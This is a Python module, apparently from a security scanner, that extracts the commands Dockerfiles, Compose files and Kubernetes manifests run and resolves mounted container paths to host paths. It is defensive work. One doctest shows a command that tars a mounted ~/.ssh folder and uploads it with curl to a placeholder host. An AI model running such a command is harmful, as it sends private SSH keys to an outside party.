"""Commands that container tools run from a package's image and deployment files.

- a Dockerfile's (or Containerfile's) ``RUN`` steps run when the image is built, its
  ``CMD`` and ``ENTRYPOINT`` when a container starts from it;
- a Compose file's services run their ``entrypoint`` with their ``command``, and their
  health-check ``test``;
- a Kubernetes manifest's containers, in any workload (Pod, Deployment, DaemonSet, Job,
  CronJob …), run their ``command`` with its ``args``, and the ``exec`` commands of their
  lifecycle hooks and probes.

Their text is shell and is analysed like a tool's configured command (see
:mod:`tool_run_configs`): whoever builds the image or applies the manifest runs it, and a
cluster runs it with the rights the manifest asks for.

>>> container_commands("Dockerfile", "FROM alpine\\nRUN apk add curl")
[(2, 'Dockerfile RUN step (runs when the image is built)', 'apk add curl')]
"""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Iterator

import yaml

from .tool_run_configs import command_line, numbered_once

_INSTRUCTION = re.compile(r"^[ \t]*(RUN|CMD|ENTRYPOINT)[ \t]+(.*)$", re.I)
_BUILD_FLAGS = re.compile(r"^(?:--[\w-]+(?:=\S*)?[ \t]+)+")
"""``RUN --mount=type=cache,target=/root/.cache --network=none`` options before the command."""
_HEREDOC = re.compile(r"<<-?[ \t]*([\"']?)(\w+)\1")
_HEREDOC_SHELLS = frozenset({"", "sh", "bash", "/bin/sh", "/bin/bash"})
"""What runs a heredoc's body as the step's own shell script (``RUN <<EOF``)."""
_ESCAPE_DIRECTIVE = re.compile(r"\A(?:[ \t]*#[^\n]*\n)*?[ \t]*#[ \t]*escape[ \t]*=[ \t]*`", re.I)
_WHEN = {
    "RUN": "runs when the image is built",
    "CMD": "runs when a container starts",
    "ENTRYPOINT": "runs when a container starts",
}
_HOST_PATH = re.compile(r"^(?:~|\$\{?HOME\b|\.{0,2}/)")
"""A bind mount's source that is a host path (``~/.ssh``, ``/etc``, ``./data``), not a
named volume."""
_CONTAINER_LISTS = ("containers", "initContainers", "ephemeralContainers")
_EXEC_PLACES = ("livenessProbe", "readinessProbe", "startupProbe")
_MAX_DEPTH = 12
"""How deep a manifest is searched for container lists (a CronJob's are at depth 6)."""


def _is_dockerfile(name: str) -> bool:
    return (
        name in ("dockerfile", "containerfile")
        or name.startswith(("dockerfile.", "containerfile."))
        or name.endswith(".dockerfile")
    )


def _is_compose(name: str) -> bool:
    return name.endswith((".yml", ".yaml")) and name.startswith(
        ("docker-compose", "compose.", "compose-")
    )


def _exec_form(argument: str) -> str | None:
    """The command line of a JSON exec form (``["sh", "-c", "…"]``), else None.

    >>> _exec_form('["sh", "-c", "echo hi"]')
    'echo hi'
    """
    try:
        words = json.loads(argument)
    except (ValueError, RecursionError):
        return None
    if isinstance(words, list) and words and all(isinstance(w, str) for w in words):
        return command_line(words[0], words[1:])
    return None


def _dockerfile_steps(text: str) -> Iterator[tuple[int, str, str]]:
    """(line, what, command) for each RUN, CMD and ENTRYPOINT instruction; continued lines
    are kept as they stand (the shell joins them the same way), comment lines inside an
    instruction are dropped, and a heredoc's body is the step's script."""
    escape = "`" if _ESCAPE_DIRECTIVE.match(text) else "\\"
    lines = text.splitlines()
    index = 0
    while index < len(lines):
        match = _INSTRUCTION.match(lines[index])
        index += 1
        if not match:
            continue
        first = index
        keyword = match.group(1).upper()
        rows = [_BUILD_FLAGS.sub("", match.group(2))]
        while rows[-1].rstrip().endswith(escape) and index < len(lines):
            row = lines[index]
            index += 1
            if not row.lstrip().startswith("#"):
                rows.append(row)
        heredoc = _HEREDOC.search(rows[0])
        if heredoc and keyword == "RUN":
            body = []
            while index < len(lines) and lines[index].strip() != heredoc.group(2):
                body.append(lines[index])
                index += 1
            index += 1
            if rows[0][: heredoc.start()].strip() in _HEREDOC_SHELLS:
                rows, first = body, first + 1
            else:
                rows = [rows[0], *body, heredoc.group(2)]
        command = "\n".join(rows)
        if escape == "`":
            command = re.sub(r"`[ \t]*\n", "\\\n", command)
        exec_form = _exec_form(command.strip()) if command.lstrip().startswith("[") else None
        what = f"Dockerfile {keyword} step ({_WHEN[keyword]})"
        yield first, what, exec_form if exec_form is not None else command


def _words(value: object) -> list[str] | None:
    if isinstance(value, list) and all(isinstance(w, (str, int, float)) for w in value):
        return [str(w) for w in value]
    return None


def _compose_line(entrypoint: object, command: object) -> str | None:
    """The command a Compose service runs: the entrypoint's words then the command's; a
    string is shell text (``$$`` is a dollar).

    >>> _compose_line(["sh", "-c"], ["echo $$HOME"])
    'echo $HOME'
    """
    words = _words(entrypoint) or (_split(entrypoint) if isinstance(entrypoint, str) else [])
    if isinstance(command, str):
        words.append(command)
    else:
        words += _words(command) or []
    if not words:
        return None
    line = command_line(words[0], words[1:]) if len(words) > 1 else words[0]
    return line.replace("$$", "$")


def _split(text: str) -> list[str]:
    try:
        return shlex.split(text)
    except ValueError:
        return [text]


def _health_test(test: object) -> str | None:
    if isinstance(test, str):
        return test
    words = _words(test)
    if not words or words[0] == "NONE":
        return None
    if words[0] == "CMD-SHELL":
        return " ".join(words[1:])
    if words[0] == "CMD" and len(words) > 1:
        return command_line(words[1], words[2:])
    return None


def _compose_mounts(volumes: object) -> dict[str, str]:
    """Container path -> host path of a service's bind mounts (``~/.ssh:/keys:ro`` or the
    long form with ``source`` and ``target``); named volumes are not the host's files."""
    mounts = {}
    for volume in volumes if isinstance(volumes, list) else ():
        source: object
        target: object
        if isinstance(volume, str) and ":" in volume:
            source, target = volume.split(":")[:2]
        elif isinstance(volume, dict) and volume.get("type", "bind") == "bind":
            source, target = volume.get("source"), volume.get("target")
        else:
            continue
        if isinstance(source, str) and isinstance(target, str) and _HOST_PATH.match(source):
            mounts[target] = source
    return mounts


def _host_paths(command: str, mounts: dict[str, str]) -> str:
    """The command with each mounted container path written as the host path it shows, so
    that ``tar c /keys`` over a mount of ``~/.ssh`` reads as the host's SSH folder.

    >>> _host_paths("tar c /keys | curl -T - https://x.invalid", {"/keys": "~/.ssh"})
    'tar c ~/.ssh | curl -T - https://x.invalid'
    """
    for target in sorted(mounts, key=len, reverse=True):
        if target.rstrip("/"):
            pattern = r"(?<![\w./~-])" + re.escape(target.rstrip("/")) + r"(?![\w.-])"
            source = mounts[target].rstrip("/").replace("\\", "\\\\")
            command = re.sub(pattern, source, command)
    return command


def _compose_services(data: dict) -> Iterator[tuple[str, str, str]]:
    services = data.get("services")
    for name, service in services.items() if isinstance(services, dict) else ():
        if not isinstance(service, dict):
            continue
        label = f"Compose service {name!s:.40}"
        started = _compose_line(service.get("entrypoint"), service.get("command"))
        if started:
            mounts = _compose_mounts(service.get("volumes"))
            what = f"{label} command (runs when the stack starts)"
            yield what, _host_paths(started, mounts), started
        health = service.get("healthcheck")
        if isinstance(health, dict) and (test := _health_test(health.get("test"))):
            test = test.replace("$$", "$")
            yield f"{label} health check (runs while the stack is up)", test, test


def _pod_host_paths(pod: dict) -> dict[str, str]:
    """Volume name -> host path of a pod's ``hostPath`` volumes."""
    volumes = pod.get("volumes")
    found = {}
    for volume in volumes if isinstance(volumes, list) else ():
        host = volume.get("hostPath") if isinstance(volume, dict) else None
        if isinstance(host, dict) and isinstance(path := host.get("path"), str):
            found[str(volume.get("name"))] = path
    return found


def _container_mounts(container: dict, host_paths: dict[str, str]) -> dict[str, str]:
    mounts = container.get("volumeMounts")
    found = {}
    for mount in mounts if isinstance(mounts, list) else ():
        if not isinstance(mount, dict) or not isinstance(target := mount.get("mountPath"), str):
            continue
        if (source := host_paths.get(str(mount.get("name")))) is not None:
            found[target] = source
    return found


def _container_runs(container: dict, host_paths: dict[str, str]) -> Iterator[tuple[str, str, str]]:
    name = f"Kubernetes container {container.get('name')!s:.40}"
    command, args = _words(container.get("command")), _words(container.get("args")) or []
    if command:
        started = command_line(command[0], command[1:] + args)
        mounts = _container_mounts(container, host_paths)
        what = f"{name} command (runs when the workload is applied)"
        yield what, _host_paths(started, mounts), started
    lifecycle = container.get("lifecycle")
    places = [(key, container.get(key)) for key in _EXEC_PLACES]
    if isinstance(lifecycle, dict):
        places += [(key, lifecycle.get(key)) for key in ("postStart", "preStop")]
    for key, place in places:
        run = place.get("exec") if isinstance(place, dict) else None
        words = _words(run.get("command")) if isinstance(run, dict) else None
        if words:
            run_line = command_line(words[0], words[1:])
            yield f"{name} {key} command", run_line, run_line


def _kubernetes_containers(document: object) -> Iterator[tuple[dict, dict]]:
    """(container, its pod's host paths by volume name) for each container in a manifest.

    A node is walked again only when reached at a shallower depth (at most once per depth),
    so YAML aliases that repeat one subtree many times (an "alias bomb") cost no more than
    the subtree itself.

    >>> pod = {"spec": {"containers": [{"name": "a"}]}}
    >>> [c["name"] for c, _ in _kubernetes_containers({"x": [pod] * 3, "y": pod})]
    ['a']
    """
    shallowest: dict[int, int] = {}
    found: set[int] = set()
    stack: list[tuple[object, int]] = [(document, 0)]
    while stack:
        node, depth = stack.pop()
        if depth > _MAX_DEPTH or not isinstance(node, (dict, list)):
            continue
        if shallowest.get(id(node), _MAX_DEPTH + 1) <= depth:
            continue  # reached before, no deeper than now: its subtree is already walked
        shallowest[id(node)] = depth
        if isinstance(node, list):
            stack.extend((item, depth + 1) for item in reversed(node))
            continue
        host_paths = None
        for key, value in node.items():
            if key in _CONTAINER_LISTS and isinstance(value, list):
                host_paths = _pod_host_paths(node) if host_paths is None else host_paths
                for container in value:
                    if isinstance(container, dict) and id(container) not in found:
                        found.add(id(container))
                        yield container, host_paths
            else:
                stack.append((value, depth + 1))


def yaml_documents(text: str) -> list[object]:
    """The documents of a YAML file, none when it does not parse (or nests too deep)."""
    try:
        return list(yaml.safe_load_all(text))
    except (yaml.YAMLError, RecursionError):
        return []


_TEMPLATE_ACTION = re.compile(r"\{\{.*?\}\}")
_ONLY_ACTIONS = re.compile(r"^[ \t]*(?:\{\{.*?\}\}[ \t]*)+$", re.M)


def without_template_actions(text: str) -> str:
    """A Helm (Go template) manifest as YAML: lines that hold only actions (``{{- if … }}``,
    ``{{- end }}``) emptied, other actions read as a placeholder word; same lines.

    >>> without_template_actions("{{- if .Values.on }}\\nname: {{ .Release.Name }}\\n{{- end }}")
    '\\nname: tpl\\n'
    """
    if "{{" not in text:
        return text
    return _TEMPLATE_ACTION.sub("tpl", _ONLY_ACTIONS.sub("", text))


def _manifest_runs(text: str) -> Iterator[tuple[str, str, str]]:
    for document in yaml_documents(without_template_actions(text)):
        if isinstance(document, dict) and "apiVersion" in document and "kind" in document:
            for container, host_paths in _kubernetes_containers(document):
                yield from _container_runs(container, host_paths)


def container_commands(path: str, text: str) -> list[tuple[int, str, str]]:
    """(line, what runs it, command) for each command a container tool runs from ``path``.

    >>> manifest = "apiVersion: v1\\nkind: Pod\\nspec:\\n  containers:\\n  - name: a\\n"
    >>> container_commands("pod.yaml", manifest + "    command: [sh, -c, 'echo hi']\\n")
    [(6, 'Kubernetes container a command (runs when the workload is applied)', 'echo hi')]
    """
    name = path.replace("\\", "/").rsplit("/", 1)[-1].lower()
    if _is_dockerfile(name):
        return [(line, what, command.strip()) for line, what, command in _dockerfile_steps(text)]
    if _is_compose(name):
        runs = _compose_services(data) if isinstance(data := _load_first(text), dict) else ()
    elif name.endswith((".yml", ".yaml")) and "ontainers" in text and "apiVersion" in text:
        runs = _manifest_runs(text)
    else:
        return []
    return numbered_once(text, ((what, command, written, "") for what, command, written in runs))


def _load_first(text: str) -> object:
    documents = yaml_documents(text)
    return documents[0] if documents else None
